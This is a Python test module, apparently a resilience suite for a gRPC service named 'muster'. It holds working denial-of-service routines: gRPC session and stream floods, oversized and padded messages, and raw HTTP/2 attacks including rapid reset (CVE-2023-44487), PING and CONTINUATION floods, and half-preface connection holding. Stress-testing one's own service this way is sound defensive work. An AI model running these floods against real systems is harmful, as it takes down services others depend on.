"""Messages without end over gRPC, whose answers are not read, and HTTP/2 by hand."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
import time
import uuid
from collections.abc import Callable, Coroutine
from typing import Any

import grpc.aio

from muster.v1 import admin_pb2, group_pb2
from tests.attack.flood import Flood
from tests.attack.stand import Attack, Target
from tests.support.service.raw_http2 import (
    END_HEADERS,
    HEADERS,
    PREFACE,
    SETTINGS,
    frame,
    header_block,
)

_SESSION = "/muster.v1.GroupService/Session"
_OPTIONS = (
    ("grpc.use_local_subchannel_pool", 1),
    ("grpc.max_send_message_length", -1),
    ("grpc.http2.lookahead_bytes", 1_024),
)
_CONTINUATION, _PING, _RST_STREAM, _PRIORITY = 9, 6, 3, 2


def _run(work: Coroutine[Any, Any, None]) -> None:
    asyncio.run(work)


def _connect(target: Target) -> Any:
    host, port = target.grpc
    return grpc.aio.insecure_channel(f"{host}:{port}", options=_OPTIONS)


def _make_flood(count: int) -> bytes:
    """Commits of members that are not there, each of which is refused by an update."""
    actions = []
    for number in range(count):
        action = group_pb2.MemberAction(group_id="x" * 900, member_id="y" * 900)
        action.commit.correlation_id = number
        action.commit.member_epoch = 5
        actions.append(action)
    return group_pb2.SessionRequest(sequence=1, actions=actions).SerializeToString()


def flood_sessions(target: Target, strength: int) -> None:
    """Sessions on 10 connections that send a thousand actions a message and read nothing."""
    _run(_flood_sessions(target, 10 * strength, 5.0 * strength))


async def _flood_sessions(target: Target, of_each: int, seconds: float) -> None:
    message = _make_flood(1_000)
    channels = [_connect(target) for _ in range(10)]
    calls = [channel.stream_stream(_SESSION)() for channel in channels for _ in range(of_each)]

    async def flood(call: Any) -> None:
        with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
            for _ in range(1_000):
                await call.write(message)

    tasks = [asyncio.create_task(flood(call)) for call in calls]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    for channel in channels:
        await channel.close()


def open_streams(target: Target, strength: int) -> None:
    """More streams on a connection than one may have, which say nothing, or join."""
    _run(_open_streams(target, 4 * strength))


async def _open_streams(target: Target, connections: int) -> None:
    channels = [_connect(target) for _ in range(connections)]
    calls = [channel.stream_stream(_SESSION)() for channel in channels for _ in range(600)]

    async def join(number: int, call: Any) -> None:
        action = group_pb2.MemberAction(group_id=f"s-{number % 20}", member_id=f"m-{number}")
        action.join.join_id = 1
        action.join.rebalance_timeout_ms = 60_000
        action.join.subscription.subscribed_topic_names.append("orders")
        request = group_pb2.SessionRequest(sequence=1, actions=[action])
        with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError, TimeoutError):
            # Those above the limit of a connection wait for their turn without end.
            async with asyncio.timeout(3):
                await call.write(request.SerializeToString())
                await call.read()

    await asyncio.gather(*(join(number, call) for number, call in enumerate(calls)))
    for channel in channels:
        await channel.close()


def send_large_messages(target: Target, strength: int) -> None:
    """Messages above the limit, and requests that bring megabytes in fields nobody knows."""
    _run(_send_large_messages(target, strength))


async def _send_large_messages(target: Target, strength: int) -> None:
    channel = _connect(target)
    codes: dict[str, int] = {}

    async def call(method: str, message: bytes) -> None:
        try:
            await channel.unary_unary(method)(message, timeout=20)
            code = "OK"
        except grpc.aio.AioRpcError as error:
            code = error.code().name
        codes[code] = codes.get(code, 0) + 1

    for _ in range(strength):
        for size in (4 << 20, 50 << 20):
            await call("/muster.v1.GroupService/CommitOffsets", b"\x7a" + bytes(size))
        for number in range(100):
            request = admin_pb2.CreateTopicRequest(
                topic_name=f"fat-{number}", num_partitions=1, request_id=uuid.uuid4().hex
            )
            padding = b"\xfa\x7f\xe0\x84\xee\x01" + bytes(3_900_000)
            await call("/muster.v1.AdminService/CreateTopic", request.SerializeToString() + padding)
    target.notes.append(f"{codes}")
    await channel.close()


def _flood_http2(target: Target, make: Callable[[int], tuple[bytes, int]], seconds: float) -> None:
    """Four connections that send what ``make`` makes for a number of a stream and read on."""
    lines = [_Line(target.grpc) for _ in range(4)]
    end = time.monotonic() + seconds
    while time.monotonic() < end and any(line.is_open for line in lines):
        for line in lines:
            line.go_on(make)
        time.sleep(0.001)
    for line in lines:
        line.socket.close()
    sent, closed = sum(line.sent for line in lines), sum(not line.is_open for line in lines)
    target.notes.append(f"{sent >> 20} MB sent, {closed} of 4 closed")


class _Line:
    """One of these connections."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.socket = socket.create_connection(address, 10)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.socket.setblocking(False)
        self.is_open = True
        self.sent = 0
        self._stream = 1
        self._left = b""

    def go_on(self, make: Callable[[int], tuple[bytes, int]]) -> None:
        if not self.is_open:
            return
        if not self._left:
            self._left, self._stream = make(self._stream)
        try:
            with contextlib.suppress(BlockingIOError):
                taken = self.socket.send(self._left)
                self.sent += taken
                self._left = self._left[taken:]
            with contextlib.suppress(BlockingIOError):
                self.is_open = bool(self.socket.recv(1 << 16))
        except OSError:
            self.is_open = False


def reset_rapidly(target: Target, strength: int) -> None:
    """Streams that are reset as soon as they are there (CVE-2023-44487)."""

    def make(stream: int) -> tuple[bytes, int]:
        out = b""
        for number in range(stream, stream + 100, 2):
            out += frame(HEADERS, END_HEADERS, number, header_block())
            out += frame(_RST_STREAM, 0, number, struct.pack(">I", 8))
        return out, stream + 100

    _flood_http2(target, make, 4 * strength)


def ping_without_end(target: Target, strength: int) -> None:
    """PING frames."""
    pings = frame(_PING, 0, 0, bytes(8)) * 200
    _flood_http2(target, lambda stream: (pings, stream), 3 * strength)


def continue_without_end(target: Target, strength: int) -> None:
    """A head of CONTINUATION frames that never ends."""
    more = frame(_CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 2_000)

    def make(stream: int) -> tuple[bytes, int]:
        return (frame(HEADERS, 0, 1, header_block()), 3) if stream == 1 else (more, 3)

    _flood_http2(target, make, 4 * strength)


def hold_connections(target: Target, strength: int) -> None:
    """Connections that say they speak HTTP/2 and nothing more."""
    with Flood(target.grpc) as flood:
        flood.connect(500 * strength, PREFACE[:10])
        flood.run(2)


ATTACKS = (
    Attack("gRPC sessions that flood, read nothing", flood_sessions, peak_bytes=1 << 30),
    Attack("2,400 streams on four connections", open_streams, is_quick=False),
    Attack("large messages, large unknown fields", send_large_messages),
    Attack("HTTP/2: rapid reset", reset_rapidly),
    Attack("HTTP/2: pings", ping_without_end, is_quick=False),
    Attack("HTTP/2: endless CONTINUATION", continue_without_end, is_quick=False),
    Attack("HTTP/2: half a preface", hold_connections, is_quick=False),
)
